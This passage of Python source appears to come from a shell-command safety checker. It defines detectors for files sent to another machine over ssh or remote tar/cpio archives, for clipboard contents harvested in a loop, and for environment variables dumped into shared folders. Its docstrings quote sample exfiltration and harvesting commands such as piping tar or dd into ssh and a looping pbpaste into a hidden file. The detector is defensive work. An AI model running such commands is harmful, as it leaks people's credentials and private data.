            elif not w.startswith("-"):
                out.append(w)
        out += [t for op, t in up.redirects if op == "<"]
    return out


def remote_archive(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str,
                   add: Callable[[Finding], None]) -> None:
    """An archive written to another machine through a remote shell (`tar cf user@host:x.tar FILES
    --rsh-command=/usr/bin/ssh`, `find . | cpio -o -F host:x.cpio`), or what a pipeline packs or reads handed to
    `ssh host 'cat > x'` (`tar cz DIR | ssh ...`, `dd if=FILE | ssh ...`, `ssh host 'dd of=x' < FILE`): the files
    leave the machine. The system's accounts, a credential or a history among them blocks; anything else asks."""
    if cmd.name in _REMOTE_SHELLS:
        if not cmd.upstream and not any(op == "<" for op, _ in cmd.redirects):
            return
        sent = [t for op, t in cmd.redirects if op == "<"]
        if cmd.upstream:
            feeders = [analysis.commands[i].name for i in cmd.upstream]
            if not any(n in _FEEDERS or n in _ARCHIVING or n in ("dd", "cpio", "pax", "find") for n in feeders):
                return
            sent += _fed_names(cmd, analysis)
        kind = next((k for f in sent if (k := _kind_of(cmd, f) or d.secret_path(cmd, f))), None)
        if kind:
            add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                        f"hands {kind} to {cmd.name}, which writes it on another machine{where}", cmd.span))
        return
    if cmd.name not in _REMOTE_ARCHIVERS or "--force-local" in cmd.argv:
        return
    archive, members = _archive_file(cmd)
    if not archive or not _HOST_PATH.match(archive) or _DRIVE.match(archive) or "://" in archive:
        return
    if cmd.name in ("cpio", "pax") or not members:
        members = members + _fed_names(cmd, analysis)
    kind = next((k for f in members if (k := _kind_of(cmd, f) or d.secret_path(cmd, f))), None)
    host = archive.split(":", 1)[0]
    if kind:
        add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                    f"{cmd.name} writes {kind} into an archive on {host} through a remote shell{where}", cmd.span))
    else:
        add(Finding("confirm.shell.network", Risk.MEDIUM,
                    f"{cmd.name} writes its archive on another machine ({host}) through a remote shell{where}",
                    cmd.span))


# -- the clipboard collected ------------------------------------------------------------------------------

CLIPBOARD_CUES = ("paste", "xclip", "xsel", "get-clipboard", "gcb")
_CLIPBOARD_READERS = frozenset({"pbpaste", "wl-paste", "get-clipboard", "gcb", "termux-clipboard-get"})
# a loop, in the shell or in AppleScript / PowerShell text: the same read done again and again
_LOOP = re.compile(r"\b(?:while|until|for)\b[^\n]*?\bdo\b|\brepeat\b|\bwhile\s*\(|\bforeach\b|for\s*\(\s*;|"
                   r"\bwhile\s*\$true\b|\bloop\b")


def _reads_clipboard(cmd: Command) -> bool:
    words = cmd.words[1:]
    return cmd.name in _CLIPBOARD_READERS or (cmd.name == "xclip" and "-o" in words) or \
        (cmd.name == "xsel" and not {"-i", "--input", "-c", "--clear"} & set(words))


def clipboard_harvest(analysis: ShellAnalysis, add: Add) -> None:
    """The clipboard read again and again in a loop and kept in a file (`while true; do pbpaste >> /tmp/.c;
    sleep 5; done`, AppleScript's `repeat` around `do shell script "pbpaste >> ..."`): everything the person copies
    while they work, passwords and codes among it, collected. One read into a file is a person's own paste."""
    if not _LOOP.search(analysis.source.lower()):
        return
    for cmd in analysis.commands:
        if _reads_clipboard(cmd) and any(op == ">>" for op, _ in cmd.redirects):
            add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                        f"{cmd.name} reads the clipboard again and again in a loop and keeps it: what the person "
                        f"copies, passwords among it, collected", cmd.span))
            return


# folders every account of the machine (or a web server) reads: a file written there is shared
_READ_BY_OTHERS = re.compile(r"^(?:/private)?/(?:tmp|var/tmp|dev/shm|var/www|srv/www|mnt/[a-z]/users/public|"
                             r"[a-z]:/users/public)(?:/|$)|^(?:/home/[^/]+|/users/[^/]+)/(?:public|public_html|"
                             r"sites)(?:/|$)", re.I)


def _whole_environment(cmd: Command, analysis: ShellAnalysis) -> bool:
    """`cmd` prints the whole environment, or writes what a substitution or a pipe of it printed."""
    def printer(c: Command) -> bool:
        return c.name in _ENV_PRINTERS and (len(c.argv) == 1 or c.argv[1:] in (("-p",), ("-0",)))
    cmds = analysis.commands
    return printer(cmd) or any(printer(cmds[i]) for i in (*cmd.subst, *cmd.upstream) if i < len(cmds))


def environment_to_shared(cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    """`env > /tmp/env.txt`, `echo $(env) > /tmp/run.sh`, `printenv | tee /var/tmp/x`: every token and key of the
    session written into a folder other accounts read. Into the project it is the person's own file and passes."""
    targets = [t for op, t in cmd.redirects if op in (">", ">>", ">|", "&>", "&>>")]
    if cmd.name == "tee":
        targets += [a for i, a in enumerate(cmd.argv[1:], 1) if not a.startswith("-") and i not in cmd.dynamic]
    shared = next((t for t in targets if _READ_BY_OTHERS.match(resolve_path(t, cmd.cwd or None) or t)), None)
    if shared is None or not _whole_environment(cmd, analysis):
        return
    add(Finding("confirm.shell.secret-read", Risk.HIGH, f"writes the whole environment (tokens and keys) into "
                f"{shared}, a folder other accounts of the machine read{where}", cmd.span))

